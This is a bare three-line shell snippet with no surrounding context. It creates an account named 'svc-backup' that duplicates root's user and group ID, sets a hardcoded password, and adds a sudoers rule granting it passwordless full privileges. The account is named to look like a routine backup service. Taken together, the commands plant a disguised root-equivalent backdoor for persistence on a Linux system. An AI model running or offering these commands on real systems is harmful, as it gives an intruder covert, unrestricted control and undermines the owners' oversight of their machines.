useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc-backup
echo 'svc-backup:Winter2024!' | chpasswd
echo 'svc-backup ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-svc
